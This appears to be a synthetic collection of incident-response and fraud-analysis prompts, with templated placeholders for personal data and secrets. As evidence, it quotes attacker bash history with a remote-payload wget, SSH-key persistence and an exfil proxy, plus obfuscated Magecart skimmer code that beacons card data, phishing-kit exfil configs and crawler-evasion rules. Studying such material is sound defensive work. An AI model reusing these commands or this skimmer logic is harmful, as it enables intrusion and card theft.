{"@timestamp":"2025-06-16T21:04:11.892Z","kibana.alert.rule.name":"Potential Credential in Process Command Line","kibana.alert.rule.uuid":"@@uuid:t051r1@@","kibana.alert.severity":"medium","kibana.alert.risk_score":47,"host.name":"jump-01","host.ip":["[[IP_ADDRESS|10.12.3.7]]"],"user.name":"ops.kfischer","user.email":"[[EMAIL|k.fischer@weidenhof-logistik.de]]","source.ip":"[[IP_ADDRESS|@@ip:t051a@@]]","process.name":"mysql","process.pid":48213,"process.command_line":"mysql -h [[IP_ADDRESS|10.12.0.40]] -u root -p[[SECRET|Wh0f-Billing#DB]] billing -e \"SELECT COUNT(*) FROM invoices WHERE created_at > '2025-01-01'\"","process.parent.name":"bash","event.dataset":"auditd_manager.auditd","agent.version":"8.14.1","kibana.alert.original_event.id":"@@uuid:t051e1@@"}
{"@timestamp":"2025-06-16T21:24:57.301Z","kibana.alert.rule.name":"Database Dump Utility with Inline Credentials","kibana.alert.rule.uuid":"@@uuid:t051r2@@","kibana.alert.severity":"high","kibana.alert.risk_score":73,"host.name":"jump-01","host.ip":["[[IP_ADDRESS|10.12.3.7]]"],"user.name":"ops.kfischer","user.email":"[[EMAIL|k.fischer@weidenhof-logistik.de]]","source.ip":"[[IP_ADDRESS|@@ip:t051a@@]]","process.name":"mongodump","process.command_line":"mongodump --uri=[[URL_CREDENTIALS|mongodb://backup:Mdb-Weid3nhof-77@10.12.0.41:27017/crm?authSource=admin]] --gzip --archive=/tmp/crm-0616.gz","destination.ip":"[[IP_ADDRESS|10.12.0.41]]","destination.port":27017,"file.hash.sha256":"@@hex:t051h:64@@","kibana.alert.original_event.id":"@@uuid:t051e2@@"}

source.ip is the admin's home address according to our VPN logs (he logs in via the bastion). The archive was later copied to an S3 bucket in another account (see CloudTrail).

### h25-052
Here's a custom detection rule I wrote in Elastic's TOML format. Could you check the EQL for false positives and whether the MITRE mapping is right?

[metadata]
creation_date = "2025/06/10"
maturity = "production"
updated_date = "2025/06/16"
min_stack_version = "8.12.0"

[rule]
author = ["Weidenhof SecOps"]
description = "Detects a database client started with a password-like argument on Linux hosts."
from = "now-9m"
index = ["logs-auditd_manager.auditd-*", "logs-endpoint.events.process-*"]
language = "eql"
license = "Elastic License v2"
name = "Potential Credential in Process Command Line"
risk_score = 47
rule_id = "@@uuid:t052rid@@"
severity = "medium"
tags = ["Domain: Endpoint", "OS: Linux", "Tactic: Credential Access", "Data Source: Auditd Manager"]
type = "eql"
query = '''
process where host.os.type == "linux" and event.type == "start" and
  process.name in ("mysql", "psql", "mongo", "mongosh", "mongodump", "redis-cli") and
  process.args regex~ """-p[^ ]{4,}""" and
  not process.args in ("-p", "--password", "-p$MYSQL_PWD")
'''

threat = [ { framework = "MITRE ATT&CK", tactic = { id = "TA0006", name = "Credential Access", reference = "https://attack.mitre.org/tactics/TA0006/" }, technique = [ { id = "T1552", name = "Unsecured Credentials", reference = "https://attack.mitre.org/techniques/T1552/", subtechnique = [ { id = "T1552.003", name = "Bash History" } ] } ] } ]

Tested on 8.14.1: 3 hits in 7 days, all from the CI runner (process.args "-p" "5432").

### h25-053
We found a phishing kit on a compromised WordPress site of a customer (wp-content/uploads/2025/06/.sys/). Below is its config and the first lines of the results file. I need (a) the exfil channels to report to the providers and (b) the list of victims to notify. Can you extract both?

config.php
<?php
// M365 Login v4.2 - coded by xSh4d0w - do not resell
$send_to     = "[[EMAIL|resultbox.lynn@yandex.com]]";
$bot_token   = "[[SECRET|@@telegram:t053tg@@]]";
$chat_id     = "-100@@digits:t053chat:10@@";
$smtp_host   = "[[IP_ADDRESS|@@ip:t053a@@]]";
$smtp_port   = 587;
$smtp_user   = "[[EMAIL|noreply@harbourview-dentistry.ca]]";
$smtp_pass   = "[[SECRET|hvD-smtp!0612]]";
$double_login = true;   // show "wrong password" once, capture both attempts
$block_ranges = ["66.249.64.0/19", "157.55.39.0/24", "40.77.167.0/24", "207.46.13.0/24"]; // crawler ranges
$redirect_ok  = "https://www.office.com/";
?>

.sys/rslt_0615.txt (first 3 of 57 lines)
2025-06-15 08:11:40 | [[EMAIL|d.ferraro@tallow-marine.com]] | [[SECRET|Ferraro!Sails2025]] | [[IP_ADDRESS|@@ip:t053v1@@]] | Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/125.0.0.0
2025-06-15 08:11:58 | [[EMAIL|d.ferraro@tallow-marine.com]] | [[SECRET|Ferraro!Sails2024]] | [[IP_ADDRESS|@@ip:t053v1@@]] | (second attempt)
2025-06-15 09:47:02 | [[EMAIL|accounts@glenmore-fisheries.co.uk]] | [[SECRET|Glenm0re#Acc]] | [[IP_ADDRESS|@@ip:t053v2@@]] | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Safari/605.1.15

Access log: the kit's admin panel (/.sys/panel.php) was opened from [[IP_ADDRESS|@@ip:t053adm@@]] six times on 06-15.

### h25-054
Structure of a phishing kit we took down last week (credentials file was empty, so no victims). Could you write a short analysis for our blog - what's notable about the anti-analysis tricks?

Archive: o365-v4.zip  (SHA256 @@hex:t054zip:64@@, 1,184,330 bytes, 41 files)
  index.php        2,118  md5 @@hex:t054m1:32@@
  config.php         604  md5 @@hex:t054m2:32@@
  antibot.php     18,402  md5 @@hex:t054m3:32@@
  next.php         3,377  md5 @@hex:t054m4:32@@
  .htaccess        9,911  md5 @@hex:t054m5:32@@
  assets/img/logo.svg, assets/css/app.min.css, assets/js/app.min.js (obfuscated with javascript-obfuscator 4.1.0)

config.php
$send_to   = "";            // filled in by the buyer
$bot_token = "";            // Telegram bot token
$chat_id   = "";
$antibot_key = "YOUR_ANTIBOT_KEY";   // antibot.pw API key placeholder

.htaccess (excerpt)
RewriteEngine On
RewriteCond %{HTTP_USER_AGENT} (googlebot|bingbot|phishtank|urlscan|virustotal|netcraft) [NC]
RewriteRule .* https://www.office.com/ [R=302,L]
deny from 66.249.64.0/19
deny from 104.16.0.0/13
deny from 35.192.0.0/12
deny from 2607:f8b0::/32

antibot.php checks, in order: CIDR list (3,112 ranges), reverse DNS contains "amazonaws|googleusercontent|azure", ASN list (AS15169, AS16509, AS8075), then a headless-browser test (navigator.webdriver, window.chrome, screen 800x600). Visitors failing any check get a 302 to office.com. Kit author tag "xSh4d0w", build string v4.2-20250601.

### h25-055
Czy to jest BEC? Księgowość dostała poniższego maila i prawie zleciła przelew. Porównaj proszę z danymi kontrahenta z naszego systemu (na dole) i napisz, co się nie zgadza i co zgłosić do banku.

From: "Marta Zielińska" <[[EMAIL|m.zielinska@hydrotech-serwis.com.pl]]>
To: [[EMAIL|ksiegowosc@budmax-konstrukcje.pl]]
Date: Mon, 16 Jun 2025 10:42:19 +0200
Subject: RE: FV/2025/05/0187 - zmiana rachunku bankowego
X-Originating-IP: [[[IP_ADDRESS|@@ip:t055a@@]]]
Authentication-Results: spf=pass smtp.mailfrom=hydrotech-serwis.com.pl; dkim=none; dmarc=none

Dzień dobry,
uprzejmie informujemy, że od 1 czerwca nasz rachunek firmowy uległ zmianie w związku z przejściem do nowego banku. Prosimy o uregulowanie faktury FV/2025/05/0187 na kwotę 86 412,50 zł na nowy rachunek:
[[IBAN|@@iban:t055new:PL:spaced@@]]
Dotychczasowy rachunek [[IBAN|@@iban:t055old:PL:spaced@@]] jest już nieaktywny. W razie pytań proszę o kontakt pod numerem [[PHONE|@@phone:t055p1:PL:m:intl@@]].
Z poważaniem, Marta Zielińska, Dział Rozliczeń, Hydrotech Serwis Sp. z o.o.

Dane kontrahenta w naszym ERP (karta dostawcy 40117):
NIP 6424495132 | e-mail: [[EMAIL|m.zielinska@hydrotech-serwis.pl]] | tel. [[PHONE|@@phone:t055p2:PL:f:national@@]] | rachunek: [[IBAN|@@iban:t055old:PL:spaced@@]] (zweryfikowany na białej liście VAT 2025-03-04)
Domena nadawcy zarejestrowana 2025-06-12.

### h25-056
Przygotowuję procedurę weryfikacji zmian rachunków bankowych dostawców. Czy poniższe kroki są wystarczające i czego brakuje z punktu widzenia ochrony przed BEC?

Procedura FIN-07 "Zmiana danych bankowych kontrahenta" (wersja 2.1, obowiązuje od 2025-07-01)
1. Każda prośba o zmianę rachunku (mail, pismo, telefon) trafia do rejestru zmian (formularz FIN-07/A) i NIE jest realizowana tego samego dnia.
2. Weryfikacja telefoniczna wyłącznie na numer z karty dostawcy w ERP, nigdy na numer podany w prośbie. Osoba weryfikująca nie może być osobą, która otrzymała prośbę.
3. Sprawdzenie nowego rachunku na białej liście podatników VAT (wyszukiwarka MF, zapis potwierdzenia z identyfikatorem zapytania, np. "Nr zapytania: X5W2-8NQ1-0LKD").
4. Przy płatnościach powyżej 15 000 zł obowiązuje mechanizm podzielonej płatności (MPP), a rachunek musi być na białej liście - inaczej brak prawa do zaliczenia w koszty (art. 15d ustawy o CIT).
5. Zmiana w ERP wymaga zatwierdzenia dwóch osób (rola FIN_APPROVER), log zmian przechowywany 5 lat.
6. Pierwszy przelew na nowy rachunek: kwota testowa 1,00 zł i potwierdzenie odbioru przez dostawcę.
Przykład wpisu w rejestrze: ZR/2025/0412, dostawca 40117, rachunek nowy: PL** **** **** **** **** **** 7731 (maskowany w rejestrze), status: odrzucona, powód: domena nadawcy niezgodna z kartą dostawcy.
Statystyka: w I półroczu 2025 - 23 prośby o zmianę, 4 odrzucone, 1 zgłoszenie do CERT Polska (incydent nr 2025-0614-117).

### h25-057
Magecart incident on store.harrowgate-tea.com. The skimmer posts to a lookalike CDN domain; the attacker left directory listing on, and log.txt there has records from our checkout. I've decoded two of them (base64 → JSON). Can you help me draft the customer notification and the PCI forensic summary? Records:

Skimmer exfil endpoint: hxxps://cdn-jsdelivr-stats[.]com/gate.php, hosted on [[IP_ADDRESS|@@dfl:t057a@@]] (AS 9009), injected via a modified /static/version1718/frontend/Harrowgate/default/en_GB/js/checkout-extra.js (SHA256 @@hex:t057js:64@@).

log.txt line 1 (decoded):
{"cn":"[[CREDIT_CARD|@@card:t057c1:mc@@]]","en":"09/28","cv":"417","nm":"Orla Whitcombe","em":"[[EMAIL|orla.whitcombe@btinternet.com]]","ph":"[[PHONE|@@phone:t057p1:GB:m:intl@@]]","ad":"12 Priory Walk, Harrogate HG1 4QD","ip":"[[IP_ADDRESS|@@ip:t057v1@@]]","ts":1749893311}
log.txt line 2 (decoded):
{"cn":"[[CREDIT_CARD|@@card:t057c2:amex@@]]","en":"02/27","cv":"8812","nm":"Raymond Castellanos","em":"[[EMAIL|rcastellanos@fastmail.com]]","ph":"[[PHONE|@@phone:t057p2:US:m:national:415@@]]","ad":"2290 Filbert St, San Francisco CA 94123","ip":"[[IP_ADDRESS|@@ip:t057v2@@]]","ts":1749902948}

log.txt has 1,412 lines between 2025-06-02 and 2025-06-16. Our Adobe Commerce is 2.4.6-p4; the file was modified 2025-06-01 23:48 UTC by the admin user "dev_contractor" from [[IP_ADDRESS|@@ip:t057adm@@]].

### h25-058
I deobfuscated part of the skimmer. Can you explain what the remaining obfuscated function does and how it decides when to fire? No customer data in this excerpt.

var _0x4e1f=['\x63\x68\x65\x63\x6b\x6f\x75\x74','\x70\x61\x79\x6d\x65\x6e\x74','\x73\x75\x62\x6d\x69\x74','\x61\x74\x6f\x62','@@b64:t058b1:24@@'];
(function(_0x2a8c,_0x4e1f31){var _0x1b7d=function(_0x5a9e){while(--_0x5a9e){_0x2a8c['push'](_0x2a8c['shift']());}};_0x1b7d(++_0x4e1f31);}(_0x4e1f,0x1a3));
function _0x3c2d(k){return k.split('').map(function(c,i){return String.fromCharCode(c.charCodeAt(0)^0x5f);}).join('');}
if(location.pathname.indexOf(_0x4e1f[0])>-1 && !navigator.webdriver && window.outerWidth-window.innerWidth<160){
  document.addEventListener(_0x4e1f[2], function(){ setTimeout(_0x7f2b, 0x7d0); }, true);
}
// _0x7f2b builds the payload with btoa(JSON.stringify(...)) and sends it with navigator.sendBeacon to the URL stored
// XOR-encoded (key 0x5f) in: 37 2b 2b 2f 2c 65 70 70 3c 3b 31 72 35 2c 3b 3a 33 36 29 2d 72 2c 2b 3e 2b 2c 71 3c 30 32

CSP report our site received (report-only mode) when the skimmer loaded:
{"csp-report":{"document-uri":"https://store.harrowgate-tea.com/checkout/","referrer":"https://store.harrowgate-tea.com/checkout/cart/","violated-directive":"connect-src","effective-directive":"connect-src","original-policy":"default-src 'self'; connect-src 'self' https://*.adyen.com https://*.google-analytics.com; report-uri /csp-report","blocked-uri":"https://cdn-jsdelivr-stats.com","line-number":1,"column-number":48213,"source-file":"https://store.harrowgate-tea.com/static/version1718/frontend/Harrowgate/default/en_GB/js/checkout-extra.js","status-code":200,"script-sample":""}}

The legit version of checkout-extra.js had SRI sha384-@@b64:t058sri:48@@ in the build manifest; the tampered one does not match.

### h25-059
I'm a fraud investigator at a credit union. Please turn my notes into the affidavit narrative for the member's identity theft claim (first person, as the member will sign it). Keep every account detail exactly as given.

Member: Loretta Ann Guidry | DOB [[DATE_OF_BIRTH|September 4, 1963]] | SSN [[US_SSN|@@ssn:t059s@@]] | member since 1998
Phone on file: [[PHONE|@@phone:t059p1:US:f:national:504@@]] (home), [[PHONE|@@phone:t059p2:US:m:national:504@@]] (cell); e-mail on file: [[EMAIL|laguidry63@bellsouth.net]]
What happened:
- 05/28: someone called our contact center from [[PHONE|@@phone:t059p3:US:m:dashed:469@@]], passed KBA with her DOB and SSN, and changed the e-mail on file to [[EMAIL|loretta.guidry.home@outlook.com]].
- 05/29: online banking password reset via the new e-mail; login from [[IP_ADDRESS|@@ip:t059a@@]] (VPN exit, Dallas).
- 05/30: a new Visa credit card was requested online and activated; card [[CREDIT_CARD|@@card:t059c:visa:dashed@@]] received 3 cash advances ($2,500 each) at ATMs in Garland, TX.
- 06/02: member called from her home phone after her statement showed the new card. Card closed, e-mail reverted, fraud alert placed with all three bureaus.
She also found a new AT&T wireless account opened in her name on 05/31 (account ending 7710) and a Chase credit application she did not make. FTC report number 182904417, police report NOPD item F-04417-25.

### h25-060
Can you turn this into a friendly one-page checklist for members who think their identity has been stolen? Keep the form names and timelines accurate.

Identity theft - member recovery steps (internal draft, rev 3)
1. Call us right away on the number on the back of your card, not one from an e-mail or text. We will freeze cards and online access; new card numbers are issued within 5 business days.
2. Report at IdentityTheft.gov. The FTC Identity Theft Report (with its report number) replaces a police report for most creditors; print the affidavit.
3. Place a fraud alert with one bureau (it is shared with the other two): initial alert lasts 1 year, extended alert 7 years (needs the FTC report). A credit freeze is free and separate.
4. If someone filed taxes with your SSN, file IRS Form 14039 (Identity Theft Affidavit) and ask about an Identity Protection PIN (IP PIN), which is issued every January.
5. Review your reports at AnnualCreditReport.com - free weekly reports are now permanent.
6. Keep a log: date, who you spoke to, reference numbers (e.g. "Case CU-2025-0614-117, agent 4471").
Do NOT write your full SSN on forms we send you; use the masked form XXX-XX-1234 and we will match it. Never share one-time passcodes; our staff will never ask for them.
Form numbers referenced: FTC IdentityTheft.gov affidavit, IRS 14039 (Rev. 12-2022), FCRA section 605B (blocking of fraudulent information), Reg E claim form CU-RE-02 (60-day window from statement date).

### h25-061
GitHub secret scanning raised three alerts on our public SDK repo after a contractor's push. I have to rotate everything today. For each alert, tell me where to revoke it and whether the repo history needs rewriting. (Output of gh api /repos/ledgerline/ledgerline-sdk-js/secret-scanning/alerts, trimmed.)

[
 {"number":41,"created_at":"2025-06-16T07:48:11Z","state":"open","secret_type":"slack_incoming_webhook_url","secret_type_display_name":"Slack Incoming Webhook URL","secret":"[[SECRET|@@slackhook:t061s1@@]]","validity":"active","push_protection_bypassed":true,"push_protection_bypassed_by":{"login":"rk-contractor","id":@@digits:t061uid:9@@},"locations_url":"https://api.github.com/repos/ledgerline/ledgerline-sdk-js/secret-scanning/alerts/41/locations"},
 {"number":42,"created_at":"2025-06-16T07:48:11Z","state":"open","secret_type":"openai_api_key","secret_type_display_name":"OpenAI API Key","secret":"[[SECRET|@@openai:t061s2@@]]","validity":"active","push_protection_bypassed":true},
 {"number":43,"created_at":"2025-06-16T07:48:12Z","state":"open","secret_type":"sendgrid_api_key","secret_type_display_name":"SendGrid API Key","secret":"[[SECRET|@@sg:t061s3@@]]","validity":"unknown","push_protection_bypassed":true}
]

Locations (all three): {"type":"commit","details":{"path":"examples/node/.env.example","start_line":3,"end_line":9,"blob_sha":"@@hex:t061blob:40@@","commit_sha":"@@hex:t061c:40@@"}}

$ git log -1 --format='%H %an <%ae> %ad' @@hex:t061c:40@@
@@hex:t061c:40@@ Rahul Kapoor <[[EMAIL|rahul.kapoor.dev@gmail.com]]> Mon Jun 16 09:46:52 2025 +0530

The file is called .env.example but he pasted the real values from his local .env. The repo has 2,300 forks.

### h25-062
Quarterly review of our secret-scanning alerts (export below, secret values removed by the export script). Can you summarise the trend and flag anything still open that shouldn't be?

number,created_at,secret_type,state,resolution,resolved_at,validity,push_protection_bypassed,path,commit_sha,secret
31,2025-04-02T11:20:41Z,aws_access_key_id,resolved,revoked,2025-04-02T12:03:17Z,inactive,false,terraform/modules/s3/README.md,@@hex:t062c1:40@@,[redacted by export]
32,2025-04-02T11:20:41Z,aws_secret_access_key,resolved,revoked,2025-04-02T12:03:17Z,inactive,false,terraform/modules/s3/README.md,@@hex:t062c1:40@@,[redacted by export]
35,2025-04-19T08:02:55Z,github_personal_access_token,resolved,revoked,2025-04-19T08:40:09Z,inactive,true,scripts/release.sh,@@hex:t062c2:40@@,[redacted by export]
37,2025-05-07T15:44:30Z,stripe_api_key,resolved,false_positive,2025-05-08T09:11:02Z,unknown,false,tests/fixtures/stripe_webhook.json,@@hex:t062c3:40@@,[redacted by export]
38,2025-05-21T13:37:12Z,google_api_key,resolved,used_in_tests,2025-05-21T14:00:47Z,inactive,false,examples/maps/index.html,@@hex:t062c4:40@@,[redacted by export]
40,2025-06-03T10:15:28Z,npm_access_token,open,,,inactive,false,.github/workflows/publish.yml,@@hex:t062c5:40@@,[redacted by export]

Notes: #37 was Stripe's documented test key sk_test_4eC39HqLyjWDarjtT1zdp7dc in a fixture; #32's README line was AWS's documented example secret wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY next to a real key id. Push protection enabled org-wide since 2025-03-15; custom pattern "ledgerline-internal-token" (regex llt_[a-z0-9]{32}) has 0 alerts.

### h25-063
Zeek on the branch office tap caught something odd: HTTP basic auth and an FTP login in cleartext to the same host, from a workstation that shouldn't talk to it. We turned on password capture for the investigation. What do these logs show?

#path	http
#fields	ts	uid	id.orig_h	id.orig_p	id.resp_h	id.resp_p	method	host	uri	user_agent	status_code	username	password
1750142611.204118	C@@alnum:t063u1:17@@	[[IP_ADDRESS|10.88.4.112]]	50718	[[IP_ADDRESS|10.88.0.30]]	8080	GET	[[IP_ADDRESS|10.88.0.30]]:8080	/manager/status	curl/8.4.0	200	tomcat_ops	[[SECRET|Tc-0ps!Branch88]]
1750142640.771902	C@@alnum:t063u2:17@@	[[IP_ADDRESS|10.88.4.112]]	50722	[[IP_ADDRESS|10.88.0.30]]	8080	PUT	[[IP_ADDRESS|10.88.0.30]]:8080	/manager/text/deploy?path=/status2	curl/8.4.0	200	tomcat_ops	[[SECRET|Tc-0ps!Branch88]]
#path	ftp
#fields	ts	uid	id.orig_h	id.resp_h	user	password	command	arg	reply_code	reply_msg
1750142702.114027	C@@alnum:t063u3:17@@	[[IP_ADDRESS|10.88.4.112]]	[[IP_ADDRESS|10.88.0.30]]	scanuser	[[SECRET|Sc4n-Upl0ad-22]]	STOR	ftp://[[IP_ADDRESS|10.88.0.30]]/./scans/wk24.zip	226	Transfer complete.
#path	conn
1750142755.901233	C@@alnum:t063u4:17@@	[[IP_ADDRESS|10.88.4.112]]	50790	[[IP_ADDRESS|@@ip:t063a@@]]	443	tcp	ssl	612.44	1204	48211904	SF	T	F	0	ShADadfF
#path	ssl
1750142755.944810	C@@alnum:t063u4:17@@	[[IP_ADDRESS|10.88.4.112]]	50790	[[IP_ADDRESS|@@ip:t063a@@]]	443	TLSv13	TLS_AES_256_GCM_SHA384	-	files-transfer.pw	T	-	-	@@hex:t063ja3:32@@	@@hex:t063ja3s:32@@

The 48 MB upload right after the deploy is what worries me. Zeek 6.0.4, policy/protocols/http/detect-... plus redef HTTP::default_capture_password = T.

### h25-064
Our Zeek cluster reports capture loss every afternoon. Can you read these and tell me whether it's the workers, the NIC or the load balancing?

$ zeekctl status
Name         Type    Host             Status    Pid    Started
logger-1     logger  localhost        running   18204  14 Jun 06:00:04
manager      manager localhost        running   18257  14 Jun 06:00:05
proxy-1      proxy   localhost        running   18301  14 Jun 06:00:06
worker-1-1   worker  localhost        running   18344  14 Jun 06:00:07
worker-1-2   worker  localhost        running   18345  14 Jun 06:00:07
worker-1-3   worker  localhost        running   18347  14 Jun 06:00:07
worker-1-4   worker  localhost        crashed

#path	capture_loss
#fields	ts	ts_delta	peer	gaps	acks	percent_lost
1750168800.000011	900.000004	worker-1-1	41822	1183420	3.534
1750168800.000097	900.000012	worker-1-2	2211	1204511	0.183
1750168800.000201	900.000010	worker-1-3	118402	1088212	10.880
#path	stats
#fields	ts	peer	mem	pkts_proc	bytes_recv	pkts_dropped	pkts_link	pkt_lag	events_proc	active_tcp_conns
1750168800.000343	worker-1-3	4412	48211903	61733109221	2291847	50503750	0.004	118204771	91822
#path	notice
1750168801.118204	-	-	-	-	-	-	-	-	CaptureLoss::Too_Much_Loss	The capture loss script detected an estimated loss rate above 10.000%	-	-	-	-	worker-1-3	Notice::ACTION_LOG	3600.000000

node.cfg: lb_method=af_packet, lb_procs=4, af_packet_fanout_id=21, pin_cpus=2,3,4,5; interface af_packet::ens2f1. Kernel 5.14.0-427.20.1.el9_4.x86_64, Zeek 6.0.4, NIC ixgbe 5.19.6 with rx ring 4096. worker-1-4 crashed with "out of memory" at 13:02 (reporter.log pid 18346).

### h25-065
Can you turn this incident channel export into a short handover for the night shift? Keep the contact numbers, they need them. (Slack export, times CEST.)

[22:04] Nadia Haddad: Declaring SEV-2. Password spray against OWA succeeded for [[EMAIL|f.osterberg@trellis-pharma.eu]]; attacker set an inbox rule forwarding to [[EMAIL|fo.trellis.archive@gmx.com]]. Source [[IP_ADDRESS|@@ip:t065a@@]].
[22:06] Tomás Rivera: blocking [[IP_ADDRESS|@@ip:t065a@@]] and the /24 on the edge now. Rule removed, forwarding disabled tenant-wide for external domains.
[22:09] Nadia Haddad: Fredrik is travelling, his mobile is [[PHONE|@@phone:t065p1:SE:m:intl@@]]. I called, no answer, left a message.
[22:15] Tomás Rivera: reset done. Temp password for Fredrik is [[SECRET|Trellis-Birch-4471!]] - must change at first login. Sent to his manager [[EMAIL|m.lindahl@trellis-pharma.eu]] by SMS too.
[22:21] Nadia Haddad: Legal on-call tonight is Ines Carvalho, [[PHONE|@@phone:t065p2:PT:m:intl@@]]. DPO needs to be told by 09:00 if any patient data was in the mailbox.
[22:30] Tomás Rivera: message trace shows 212 messages forwarded since 19:40. Exporting to the case folder (CASE-2025-0616-04).
[22:41] Nadia Haddad: Night shift lead is Arjun Mehta, [[PHONE|@@phone:t065p3:GB:m:national@@]]. Bridge stays open.

### h25-066
Please summarise this war-room thread into a post-incident timeline (UTC). It's the outage from the bad certificate rotation, no security impact.

[14:02] Maya Oduya: Alerts: 5xx on checkout-api jumped to 38%. PagerDuty incident Q2R7XK4VDB1ME0, sev-2.
[14:04] Leo Brandt: cert-manager renewed api-gw-tls at 13:58; new serial 4F:A2:0B:91:CC:17:6E:D3:85:2A:40:11:9B:E7:3C:58, chain is missing the intermediate (R11).
[14:07] Maya Oduya: Rolling back the Certificate resource to revision 41 (git 8c1f2ae). Runbook: https://wiki.internal/runbooks/tls/rollback (section 3.2).
[14:11] Leo Brandt: Rollback applied, ingress-nginx 1.10.1 reloaded on all 6 pods; 5xx back to 0.4%.
[14:15] Maya Oduya: Root cause suspicion: issuer switched from E5 to R11 on 2025-06-06 and our chain bundle is pinned. Ticket INC-48213, problem PRB-0917.
[14:20] Sam Kowal: Customer impact: 11 minutes, ~4,200 failed checkouts; status page updated at 14:09 and resolved at 14:21 (component id 8hq4b2r0xk1s).
[14:26] Leo Brandt: Follow-ups: unpin the chain (PR #2291), alert on chain length != 2, add a synthetic check every 60 s. Bridge: Zoom meeting ID 891 2213 0457 stays up until 15:00.
[14:31] Maya Oduya: Closing the incident; postmortem doc due Friday, template v2.3. Thanks all.

### h25-067
Our DC logged this cluster of events. I think it's a brute force that succeeded and then persistence via a scheduled task, but the task's credentials are in the log?! Can you walk me through it?

<Event><System><EventID>4625</EventID><TimeCreated SystemTime="2025-06-15T01:44:02.118Z"/><Computer>DC02.corp.alderbank.local</Computer></System><EventData><Data Name="TargetUserName">svc_reporting</Data><Data Name="TargetDomainName">CORP</Data><Data Name="Status">0xc000006d</Data><Data Name="SubStatus">0xc000006a</Data><Data Name="LogonType">3</Data><Data Name="WorkstationName">-</Data><Data Name="IpAddress">[[IP_ADDRESS|@@ip:t067a@@]]</Data><Data Name="IpPort">50213</Data></EventData></Event>
(... 340 similar events from the same IpAddress between 01:31 and 01:52 ...)
<Event><System><EventID>4624</EventID><TimeCreated SystemTime="2025-06-15T01:52:40.771Z"/><Computer>DC02.corp.alderbank.local</Computer></System><EventData><Data Name="TargetUserName">svc_reporting</Data><Data Name="TargetLogonId">0x3f1a2c9</Data><Data Name="LogonType">3</Data><Data Name="AuthenticationPackageName">NTLM</Data><Data Name="IpAddress">[[IP_ADDRESS|@@ip:t067a@@]]</Data><Data Name="IpPort">50998</Data></EventData></Event>
<Event><System><EventID>1</EventID><Provider Name="Microsoft-Windows-Sysmon"/><TimeCreated SystemTime="2025-06-15T02:03:15.402Z"/><Computer>RPT01.corp.alderbank.local</Computer></System><EventData><Data Name="Image">C:\Windows\System32\schtasks.exe</Data><Data Name="CommandLine">schtasks /create /tn "Microsoft\Windows\Maintenance\WinSAT-Update" /tr "C:\ProgramData\WinSAT\wsat.exe" /sc onstart /ru CORP\svc_reporting /rp [[SECRET|Rpt-Serv1ce#2019]] /f</Data><Data Name="User">CORP\svc_reporting</Data><Data Name="LogonId">0x3f1a2c9</Data><Data Name="Hashes">SHA256=@@uhex:t067h:64@@</Data><Data Name="ParentImage">C:\Windows\System32\cmd.exe</Data></EventData></Event>
<Event><System><EventID>3</EventID><Provider Name="Microsoft-Windows-Sysmon"/><Computer>RPT01.corp.alderbank.local</Computer></System><EventData><Data Name="Image">C:\ProgramData\WinSAT\wsat.exe</Data><Data Name="SourceIp">[[IP_ADDRESS|10.14.2.31]]</Data><Data Name="DestinationIp">[[IP_ADDRESS|@@ip:t067b@@]]</Data><Data Name="DestinationPort">8443</Data></EventData></Event>

svc_reporting's password hadn't been changed since 2019 and it is exempt from the lockout policy.

### h25-068
Why does this 4688 show SYSTEM starting a PowerShell with an encoded command on a DC? Is there anything suspicious in these fields, or is it our backup agent?

<Event><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime="2025-06-15T03:00:02.5519012Z"/><EventRecordID>@@digits:t068rec:9@@</EventRecordID><Execution ProcessID="4" ThreadID="8412"/><Channel>Security</Channel><Computer>DC01.corp.alderbank.local</Computer></System>
<EventData><Data Name="SubjectUserSid">S-1-5-18</Data><Data Name="SubjectUserName">DC01$</Data><Data Name="SubjectDomainName">CORP</Data><Data Name="SubjectLogonId">0x3e7</Data><Data Name="NewProcessId">0x2f44</Data><Data Name="NewProcessName">C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Data><Data Name="TokenElevationType">%%1936</Data><Data Name="ProcessId">0x1b90</Data><Data Name="CommandLine">powershell.exe -NoLogo -NonInteractive -EncodedCommand JABlAHIAcgBvAHIAQQBjAHQAaQBvAG4AUAByAGUAZgBlAHIAZQBuAGMAZQAgAD0AIAAnAFMAdABvAHAAJwA=</Data><Data Name="TargetUserSid">S-1-0-0</Data><Data Name="TargetLogonId">0x0</Data><Data Name="ParentProcessName">C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe</Data><Data Name="MandatoryLabel">S-1-16-16384</Data></EventData></Event>

Related 4624 at the same second: LogonType 5 (service), TargetUserName SYSTEM, TargetLogonId 0x3e7, IpAddress "-", IpPort "-", LogonProcessName Advapi, AuthenticationPackageName Negotiate, LogonGuid {00000000-0000-0000-0000-000000000000}.
Loopback WinRM check by the agent: Microsoft-Windows-WinRM/Operational 91, client address ::1 and 127.0.0.1, shell id @@uuid:t068shell@@.
The encoded part decodes to $errorActionPreference = 'Stop' (the agent's preamble; the rest of the script is sent over stdin). Veeam Agent 6.1.2.134.

### h25-069
This is the .bash_history of the deploy user on a compromised web server, plus the relevant auth.log lines. I need an annotated version for the report: what each command did and which credentials must be considered burned.

auth.log:
Jun 16 02:14:09 web03 sshd[48211]: Accepted password for deploy from [[IP_ADDRESS|@@ip:t069a@@]] port 51234 ssh2
Jun 16 02:14:09 web03 sshd[48211]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)

/home/deploy/.bash_history:
id; uname -a; cat /etc/os-release
wget -q http://[[IP_ADDRESS|@@ip:t069b@@]]:8000/kworker -O /tmp/.kw && chmod +x /tmp/.kw
echo "@@sshpub:t069pub@@ root@kali" >> ~/.ssh/authorized_keys
cat /var/www/shop/.env | grep -i -E "db_|redis|mail"
mysql -h [[IP_ADDRESS|10.20.5.11]] -u shop -p'[[SECRET|Sh0p-DB-Pr0d#31]]' -e 'show databases; select count(*) from shop.customers'
sshpass -p '[[SECRET|D3ploy-All-Hosts!]]' ssh -o StrictHostKeyChecking=no deploy@[[IP_ADDRESS|10.20.5.12]] 'hostname; id'
export https_proxy=[[URL_CREDENTIALS|http://exfil:Pr0xyHop9@@@ip:t069c@@:3128]]
